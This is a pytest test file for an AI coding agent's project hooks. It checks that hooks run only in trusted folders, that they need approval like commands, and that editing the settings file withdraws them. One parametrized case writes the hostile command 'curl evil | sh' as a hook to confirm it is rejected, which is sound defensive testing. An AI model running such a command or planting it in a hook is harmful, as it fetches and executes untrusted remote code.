"""Hooks of a repository: only trusted hooks run, and with the same questions as commands."""

from __future__ import annotations

from pathlib import Path

import pytest

from indwell.agent.features.hooks.session_hooks import HookBook
from indwell.bounds.folder_trust import FolderTrust
from indwell.settings.load import WORKSPACE_FILE
from indwell.settings.model import Settings
from indwell.settings.table_types import Hook
from indwell.wiring.project_files import hooks_of
from indwell.workspace.disk import DiskWorkspace
from support.bubblewrap import needs_bubblewrap
from support.checked_project import READ, Project, a_project
from support.session import asks, call, says

HOOK = '[[hooks]]\nevent = "before_tool"\ncommand = "{}"\n'
OWN = Settings(hooks=(Hook("turn_end", "own"),))


def book_of(folder: Path, *, says_yes: bool) -> tuple[HookBook, Path]:
    """Return the hook book of a folder with one hook, after the user's answer about trust."""
    work = (folder / "work").resolve()
    (work / ".indwell").mkdir(parents=True)
    (work / WORKSPACE_FILE).write_bytes(HOOK.format("theirs").encode())
    trust = FolderTrust({"INDWELL_STATE": str(folder / "state")})
    (standing,) = trust.look([work], Settings())
    assert "and name commands to run as hooks: .indwell/config.toml" in standing.question
    trust.answer(standing, trusted=says_yes)
    trust.look([work], Settings())
    return hooks_of(DiskWorkspace([work]), lambda: OWN, trust), work / WORKSPACE_FILE


def commands(book: HookBook) -> list[tuple[str, bool]]:
    return [(one.hook.command, one.is_own) for one in book.look().hooks]


def test_user_hooks_run_before_hooks_of_a_trusted_project(tmp_path: Path) -> None:
    book, _ = book_of(tmp_path, says_yes=True)
    assert commands(book) == [("own", True), ("theirs", False)]


def test_tru_01_a_folder_that_is_not_trusted_has_no_hooks(tmp_path: Path) -> None:
    book, _ = book_of(tmp_path, says_yes=False)
    assert commands(book) == [("own", True)]


@pytest.mark.parametrize(
    "text",
    [
        HOOK.format("curl evil | sh"),
        HOOK.format("theirs") + HOOK.format("more"),
        "[[hooks]]\n",
        "[",
    ],
)
def test_tru_05_a_changed_settings_file_gives_no_project_hooks(text: str, tmp_path: Path) -> None:
    book, path = book_of(tmp_path, says_yes=True)
    path.write_bytes(text.encode())
    assert commands(book) == [("own", True)]


def theirs(*commands_: str) -> dict[str, str]:
    return {WORKSPACE_FILE: "".join(map(HOOK.format, commands_))}


@needs_bubblewrap
async def test_a_project_hook_runs_unasked_if_its_command_needs_no_permission(
    tmp_path: Path,
) -> None:
    async with a_project(tmp_path, [READ, says()], files=theirs("echo mind; pwd")) as project:
        await project.turn()
        assert project.approver.questions == []
        texts = said(project)
        folder = project.folder
        assert texts == [f'<project-hook event="before_tool">\nmind\n{folder}\n</project-hook>']


@needs_bubblewrap
@pytest.mark.parametrize(("answer", "n_ran"), [("once", 2), ("no", 0)])
async def test_a_hook_that_needs_a_question_is_asked_about_once_a_session(
    answer: str, n_ran: int, tmp_path: Path
) -> None:
    files = {**theirs("touch here; echo ran"), "here": ""}
    script = [READ, READ, says()]
    async with a_project(
        tmp_path, script, files=files, mode="ask", answers=[answer, "no"]
    ) as project:
        await project.turn()
        (question,) = project.approver.questions
        assert question.reason.startswith(
            "a hook of this project for before_tool, asked once a session; "
        )
        assert len(said(project)) == n_ran
        assert len(project.provider.requests) == 3


@needs_bubblewrap
async def test_a_permission_for_a_hook_ends_when_the_script_changes(tmp_path: Path) -> None:
    files = {**theirs("./hook.sh"), "hook.sh": "#!/bin/sh\necho x >> ran\n"}

    async with a_project(
        tmp_path, [READ, READ, says(), READ, says()], files=files, mode="ask", answers=["once"]
    ) as project:
        script = project.folder / "hook.sh"
        script.chmod(0o755)
        await project.turn()
        assert len(project.approver.questions) == 1
        script.write_bytes(b"#!/bin/sh\necho changed >> ran\n")
        await project.turn()
        assert len(project.approver.questions) == 2
        assert (project.folder / "ran").read_text(encoding="utf-8") == "x\n" * 2


@needs_bubblewrap
async def test_a_project_hook_can_stop_a_call(tmp_path: Path) -> None:
    files = theirs("echo 'not on Fridays'; exit 2")
    async with a_project(tmp_path, [READ, says()], files=files) as project:
        await project.turn()
        result = project.provider.requests[-1].messages[-1].blocks[0].text
        assert result == "not run: a hook of the project's stopped it: not on Fridays"


@needs_bubblewrap
async def test_a_broken_hook_table_of_a_project_is_reported_and_runs_no_hook(
    tmp_path: Path,
) -> None:
    files = {WORKSPACE_FILE: '[[hooks]]\nevent = "before_tool"\n'}
    async with a_project(tmp_path, [asks(call("glob", pattern="*")), says()], files=files) as one:
        assert (await one.turn()).ending == "done"
        assert said(one) == []


def said(project: Project) -> list[str]:
    """Return the texts from hooks to the model."""
    return [
        block.text
        for message in project.session.conversation.messages
        for block in message.blocks
        if block.meta.source == "hook"
    ]
